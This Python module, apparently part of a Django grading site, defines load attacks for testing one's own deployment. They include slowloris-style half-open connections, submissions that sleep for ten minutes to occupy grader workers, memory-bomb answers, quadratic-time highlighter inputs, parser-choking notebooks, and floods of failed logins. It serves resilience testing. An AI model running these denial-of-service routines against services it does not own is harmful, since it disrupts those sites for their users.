"""Kinds of mischief that one student can do to a site, for ``manage.py benchmark_attacker`` to try on one's own."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from itertools import count, cycle
from threading import Event
from typing import Final
from urllib.parse import urlsplit

from grading.models import Purpose, Submission
from grading.pretended_students import PretendedStudent
from grading.visitor import Visitor

PAUSE_S: Final = 0.02
HALF_OPEN: Final = 700
"""Connections that say half a request: more than a client may have, and fewer than a process has descriptors."""

ELSEWHERE: Final = "127.0.0.2"
"""Where they come from: an address of this machine's own that the other student has not."""

QUADRATIC: Final = ("match" + 30_000 * " " + "x\n", (500 * " " + "\n") * 1000)
JUDGE_BOMBS: Final = (
    'b"ab " * 42_000_000',
    "[__import__('numpy').ones((2000, 2000), dtype=bool) for _ in range(33)]",
    "{(n,): [n] for n in range(300_000)}",
    '"' + r"\u0301" + '" * 30_000_000',
)


@dataclass(frozen=True)
class Target:
    """Who attacks what, until when."""

    attacker: PretendedStudent
    url: str
    page: str
    entry_points: tuple[str, ...]
    until: Event

    def visitor(self) -> Visitor:
        """One more browser of the attacker's, which has looked at the exercise."""
        visitor = Visitor(self.attacker, self.url)
        visitor.get(self.page)
        return visitor

    def again_and_again(self) -> Iterable[int]:
        """Numbers from 0, with a pause after each, until it is over."""
        for number in count():
            if self.until.is_set():
                return
            yield number
            time.sleep(PAUSE_S)

    def answering(self, expression: str) -> str:
        """A submission whose every entry point answers with the value of ``expression``."""
        functions = [f"def {name}(*_, **__):\n    return {expression}\n" for name in self.entry_points]
        return "\n\n".join(functions)


def quadratic_pages(target: Target) -> None:
    """Look again and again at submissions that take a highlighter time in the square of their length."""
    visitor = target.visitor()
    for code in QUADRATIC:
        visitor.hand_in(target.page, code)
    addresses = [
        f"/submissions/{pk}/"
        for pk in Submission.objects.filter(user=target.attacker.user).values_list("pk", flat=True)
    ]
    for _, address in zip(target.again_and_again(), cycle(addresses or [target.page]), strict=False):
        visitor.get(address)


def hostile_notebooks(target: Target) -> None:
    """Upload notebooks that parsers choke on."""
    visitor = target.visitor()
    cells = [
        "f'" + "{x}" * 50_000 + "'",
        "if a:\n a=fire=b\n b=a\n" * 700,
        "a = 1\n" * 1400 + "\n" * 500_000,
        "(" * 90 + ")" * 90,
    ]
    for number in target.again_and_again():
        visitor.post(
            f"{target.page}submissions", {"purpose": Purpose.SUBMIT}, ("a.ipynb", _notebook(cells[number % 4]))
        )


def _notebook(source: str) -> bytes:
    cell: dict[str, object] = {
        "cell_type": "code",
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "source": source,
    }
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": [cell]}).encode()


def judge_bombs(target: Target) -> None:
    """Hand in answers that are small to send and large to show, to stack or to compare."""
    visitor = target.visitor()
    for number in target.again_and_again():
        visitor.hand_in(target.page, target.answering(JUDGE_BOMBS[number % len(JUDGE_BOMBS)]) + f"# {number}\n")


def sleepers(target: Target) -> None:
    """Hand in what sleeps, for one button and the other, to hold every place of a worker."""
    visitor = target.visitor()
    code = target.answering("__import__('time').sleep(600)")
    for number in target.again_and_again():
        purpose = (Purpose.SUBMIT, Purpose.RUN)[number % 2]
        visitor.post(f"{target.page}submissions", {"purpose": purpose, "code": f"{code}# {number}\n"})


def half_open_connections(target: Target) -> None:
    """Open connections that say half a request and wait."""
    place = urlsplit(target.url)
    opened = []
    for _ in range(HALF_OPEN):
        try:
            one = socket.create_connection(
                (str(place.hostname), place.port or 80), timeout=1, source_address=(ELSEWHERE, 0)
            )
            one.sendall(b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n")
            opened.append(one)
        except OSError:
            break
    target.until.wait()
    for one in opened:
        one.close()


def refused_requests(target: Target) -> None:
    """Flood with what is refused: no token, no such page, wrong passwords, floods of the same code."""
    visitor = target.visitor()
    for number in target.again_and_again():
        visitor.get(f"/submissions/{number:032x}/")
        visitor.post("/accounts/sign-in/", {"username": f"nobody{number}", "password": "wrong"})
        visitor.post(f"{target.page}submissions", {"purpose": "neither", "code": "x" * 500_000})
        visitor.hand_in(target.page, "")


Mischief = Callable[[Target], None]
KINDS: Final[dict[str, tuple[Mischief, int]]] = {
    "pages": (quadratic_pages, 4),
    "notebooks": (hostile_notebooks, 3),
    "judge": (judge_bombs, 2),
    "sleepers": (sleepers, 2),
    "connections": (half_open_connections, 1),
    "refusals": (refused_requests, 6),
}
"""Name to what is done and in how many threads at once."""
